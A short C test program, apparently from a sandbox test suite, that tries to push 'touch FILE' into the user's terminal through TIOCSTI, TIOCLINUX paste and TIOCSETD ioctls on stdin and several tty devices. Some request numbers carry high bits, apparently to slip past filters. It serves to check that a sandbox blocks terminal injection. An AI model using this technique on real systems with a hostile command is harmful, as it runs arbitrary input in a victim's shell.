/* SPDX-License-Identifier: MIT */
/*
 * Push "touch FILE\n" into the terminal on stdin: TIOCSTI, and TIOCLINUX's
 * paste, plain and with high bits in the command. Then give it a line
 * discipline, the one that it has.
 *
 *	ttyioctl FILE
 */
#include "attack.h"

#include <fcntl.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

static void push(const char *how, int fd, uint64_t request, const char *text)
{
	long rc = 0;

	for (const char *c = text; *c != '\0' && rc == 0; c++)
		rc = syscall(SYS_ioctl, fd, request, c);
	report(how, rc);
}

int main(int argc, char **argv)
{
	char text[4096];
	unsigned char paste[] = {3};
	int discipline = 0; /* N_TTY */
	static const char *const ttys[] = {"/dev/tty", "/dev/console",
					   "/dev/tty1", "/dev/pts/0"};

	if (argc != 2)
		return 2;
	snprintf(text, sizeof(text), "touch %s\n", argv[1]);
	for (int fd = 0; fd < 3; fd++) {
		push("TIOCSTI", fd, TIOCSTI, text);
		push("TIOCSTI-high", fd, TIOCSTI | (1ULL << 32), text);
		push("TIOCSTI-sign", fd, TIOCSTI | 0xffffffff00000000ULL, text);
		report("TIOCLINUX", syscall(SYS_ioctl, fd, TIOCLINUX, paste));
		report("TIOCLINUX-high",
		       syscall(SYS_ioctl, fd, TIOCLINUX | (1ULL << 33), paste));
		report("TIOCSETD",
		       syscall(SYS_ioctl, fd, TIOCSETD, &discipline));
	}
	for (size_t i = 0; i < sizeof(ttys) / sizeof(ttys[0]); i++) {
		int fd = open(ttys[i], O_RDWR | O_NOCTTY);

		if (fd < 0)
			continue;
		push(ttys[i], fd, TIOCSTI | (1ULL << 40), text);
		close(fd);
	}
	return 0;
}
